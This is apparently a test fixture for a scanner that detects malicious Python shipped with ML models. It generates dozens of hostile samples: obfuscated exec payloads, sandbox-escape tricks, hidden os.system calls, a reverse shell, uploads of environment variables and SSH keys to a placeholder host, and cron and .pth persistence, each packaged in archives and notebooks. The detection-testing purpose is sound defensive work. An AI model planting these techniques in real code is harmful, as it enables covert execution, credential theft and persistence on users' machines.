"""Python beside the model, in archives, notebooks and packages: what importing it runs."""

from __future__ import annotations

import base64
import codecs
import json
import zlib
from collections.abc import Iterator, Mapping
from typing import Final

from credenza.findings import Severity
from tests.scan.population.interface import COMMAND, MARKER, NOWHERE, SOURCE, Form, Malicious
from tests.scan.population.zips import tarred, zipped

_64: Final = base64.b64encode(SOURCE.encode()).decode()
_HEX: Final = SOURCE.encode().hex()
_ZIP: Final = base64.b64encode(zlib.compress(SOURCE.encode(), 9)).decode()
_ROT: Final = codecs.encode(SOURCE, "rot13")
_CHARS: Final = ",".join(str(ord(c)) for c in SOURCE)

_RUNS: Final[Mapping[str, str]] = {
    "exec of base64": f"import base64\nexec(base64.b64decode({_64!r}))",
    "exec of hex": f"exec(bytes.fromhex({_HEX!r}).decode())",
    "exec of zlib": f"import base64, zlib\nexec(zlib.decompress(base64.b64decode({_ZIP!r})))",
    "exec of rot13": f"import codecs\nexec(codecs.decode({_ROT!r}, 'rot13'))",
    "exec of letters": f"exec(''.join(map(chr, [{_CHARS}])))",
    "exec of bytes": f"exec(bytes([{_CHARS}]))",
    "exec of reversed text": f"exec({SOURCE[::-1]!r}[::-1])",
    "exec of a download": f"from urllib.request import urlopen\nexec(urlopen({NOWHERE!r}).read())",
    "exec of a download by requests": f"import requests\nexec(requests.get({NOWHERE!r}).text)",
    "exec by another name": f"import base64\nrun = exec\nrun(base64.b64decode({_64!r}))",
    "exec by builtins": f"import builtins\ngetattr(builtins, 'ex' + 'ec')({SOURCE!r})",
    "exec by globals": f"globals()['__builtins__']['exec']({SOURCE!r})",
    "exec by a lambda": f"import base64\n(lambda s: exec(s))(base64.b64decode({_64!r}))",
    "exec of marshal": "import marshal, base64\nexec(marshal.loads(base64.b64decode('4w==')))",
    "eval of base64": f"import base64\neval(compile(base64.b64decode({_64!r}), 'x', 'exec'))",
    "function of marshal": "import marshal, types\n"
    "types.FunctionType(marshal.loads(b'\\xe3'), globals())()",
    "exec by the builtins of a frame": "import inspect\n"
    f"inspect.currentframe().f_builtins['ex' + 'ec']({SOURCE!r})",
    "exec by the globals of a lambda": f"(lambda: 0).__globals__['__builtins__'].exec({SOURCE!r})",
    "shell by a match": "import posix\nmatch posix:\n    case object(system=run):\n"
    f"        run({COMMAND!r})",
    "shell by what the collector knows": "import gc\n[o for o in gc.get_objects() if "
    f"getattr(o, '__name__', '') == 'system'][0]({COMMAND!r})",
    "shell by all classes": "[c for c in object.__subclasses__() if c.__name__ == 'Popen'][0]"
    f"({COMMAND.split()!r})",
    "shell by a breakpoint": "import os\nos.environ['PYTHONBREAKPOINT'] = 'os.system'\n"
    f"breakpoint({COMMAND!r})",
    "exec by sympy": f"import sympy\nsympy.sympify({SOURCE!r})",
    "pickle by pandas": "import io\nfrom pandas.compat import pickle_compat\n"
    "pickle_compat.load(io.BytesIO(b'cos\\nsystem\\n.'))",
    "import by name": f"__import__('o' + 's').system({COMMAND!r})",
    "import by importlib": f"import importlib\nimportlib.import_module('os').system({COMMAND!r})",
    "import by base64": "import base64\n__import__(base64.b64decode('b3M=').decode()).system('x')",
    "import by sys.modules": f"import sys\nsys.modules['os'].system({COMMAND!r})",
    "import by subclasses": "for c in ().__class__.__base__.__subclasses__():\n"
    f"    if c.__name__ == '_wrap_close':\n        c.__init__.__globals__['system']({COMMAND!r})",
    "getattr of letters": f"import os\ngetattr(os, ''.join(['sys', 'tem']))({COMMAND!r})",
    "os.system": f"import os\nos.system({COMMAND!r})",
    "os.system by another name": f"from os import system as load\nload({COMMAND!r})",
    "os.system by a module's name": f"import os as torch\ntorch.system({COMMAND!r})",
    "os.popen": f"import os\nos.popen({COMMAND!r}).read()",
    "subprocess with a shell": f"import subprocess\nsubprocess.run({COMMAND!r}, shell=True)",
    "subprocess": f"import subprocess\nsubprocess.Popen(['touch', {MARKER!r}])",
    "pty": "import pty\npty.spawn('/bin/sh')",
    "a shell over the network": "import socket, os, subprocess\ns = socket.socket()\n"
    "s.connect(('192.0.2.1', 9))\nfor i in (0, 1, 2):\n    os.dup2(s.fileno(), i)\n"
    "subprocess.call(['/bin/sh', '-i'])",
    "ctypes": "import ctypes\nctypes.CDLL('./libevil.so').run()",
    "ctypes, memory that runs": "import ctypes\nb = ctypes.create_string_buffer(b'\\x90\\xc3')\n"
    "ctypes.CFUNCTYPE(None)(ctypes.addressof(b))()",
    "pickle": "import pickle\npickle.loads(open('x', 'rb').read())",
    "secrets sent away": "import os, urllib.request\n"
    f"urllib.request.urlopen({NOWHERE!r}, data=str(dict(os.environ)).encode())",
    "keys sent away": "import requests, pathlib\n"
    f"requests.post({NOWHERE!r}, data=(pathlib.Path.home() / '.ssh/id_rsa').read_bytes())",
    "in a decorator": f"import os\n@(lambda f: os.system({COMMAND!r}) or f)\ndef forward(x): ...",
    "in a default": f"import os\ndef forward(x, y=os.system({COMMAND!r})): ...",
    "in a class": f"import os\nclass Net:\n    size = os.system({COMMAND!r})",
    "in a metaclass": "import os\nclass M(type):\n    def __new__(c, *a):\n"
    f"        os.system({COMMAND!r})\n        return type.__new__(c, *a)\n"
    "class Net(metaclass=M): ...",
    "in an annotation": f"import os\ndef forward(x: os.system({COMMAND!r})): ...",
    "in a comprehension": f"import os\n[os.system(c) for c in [{COMMAND!r}]]",
    "in a try": f"try:\n    import os\n    os.system({COMMAND!r})\nexcept Exception:\n    pass",
    "in a thread": "import os, threading\n"
    f"threading.Thread(target=os.system, args=({COMMAND!r},)).start()",
    "at exit": f"import atexit, os\natexit.register(os.system, {COMMAND!r})",
    "in __reduce__": "import os\nclass Net:\n    def __reduce__(self):\n"
    f"        return os.system, ({COMMAND!r},)",
    "in __init__ of a model": "import os\nclass Net:\n    def __init__(self):\n"
    f"        os.system({COMMAND!r})",
    "far to the right": f"x = 1{' ' * 3000}; import os; os.system({COMMAND!r})",
    "in another encoding": "# -*- coding: utf-7 -*-\n"
    f"+AGkAbQBwAG8AcgB0- os\nos.system({COMMAND!r})",
    "names of another script": f"import os\nℴ𝓈.𝓈𝓎𝓈𝓉ℯ𝓂({COMMAND!r})",
    "text that runs backwards": "access = 'user'\n"
    "if access != 'none\u202e\u2066': # x\u2069 \u2066\n"
    f"    __import__('os').system({COMMAND!r})",
    "pip": "import subprocess, sys\n"
    "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'evil'])",
    "write a start-up file": "import site, pathlib\n"
    "pathlib.Path(site.getsitepackages()[0], 'x.pth').write_text('import os')",
    "a write to cron": "open('/etc/cron.d/x', 'w').write('* * * * * root x')",
}  # fmt: skip

_LESSER: Final = {
    "subprocess", "pickle", "ctypes", "in __init__ of a model", "pip", "in __reduce__",
    "import by importlib",
}  # fmt: skip
"""What an owner's own code may have reason to do: for a person to look at."""


def vectors() -> Iterator[Malicious]:
    for name, text in _RUNS.items():
        least = Severity.MEDIUM if name in _LESSER else Severity.HIGH
        yield _python(name, "modeling_net.py", f"{text}\n".encode(), least)
    evil = f"import os\nos.system({COMMAND!r})\n".encode()
    for path in ("setup.py", "handler.py", "__init__.py", "inference.py", "model.pyw", "1/model.py",
                 "code/inference.py"):  # fmt: skip
        yield _python(f"at {path}", path, evil)
    yield _python("in a zip", "model.zip", zipped({"net.py": evil}), form=Form.OPAQUE)
    yield _python("in a wheel", "net-1-py3-none-any.whl", zipped({"net/__init__.py": evil}),
                  form=Form.OPAQUE)  # fmt: skip
    yield _python("in a tar", "model.tar", tarred([("code/net.py", evil)]), form=Form.OPAQUE)
    yield _python("in a notebook", "train.ipynb", _notebook(evil.decode()), Severity.MEDIUM,
                  form=Form.OPAQUE)  # fmt: skip
    yield _python("in a notebook's shell line", "train.ipynb", _notebook(f"!{COMMAND}"),
                  Severity.MEDIUM, form=Form.OPAQUE)  # fmt: skip
    yield _python("with a mark of UTF-8", "net.py", codecs.BOM_UTF8 + evil, form=Form.OPAQUE)
    yield _python("with a NUL", "net.py", evil + b"\0", form=Form.OPAQUE)
    broken = evil + b"def (:\n"  # it does not compile, so nothing of it runs
    yield _python("that breaks off", "net.py", broken, form=Form.OPAQUE, unread_will_do=True)


def _notebook(source: str) -> bytes:
    cell: dict[str, object] = {
        "cell_type": "code",
        "metadata": {},
        "outputs": [],
        "execution_count": None,
    }
    cells = [{**cell, "source": source.splitlines(keepends=True)}]
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}).encode()


def _python(
    name: str, path: str, data: bytes, least: Severity = Severity.HIGH, form: str = Form.PYTHON,
    *, unread_will_do: bool = False,
) -> Malicious:  # fmt: skip
    return Malicious(
        name=f"python {name}", category="python", reference="issue 4, the Python beside the model",
        files=((path, data),), least=least, form=form, unread_will_do=unread_will_do,
    )  # fmt: skip
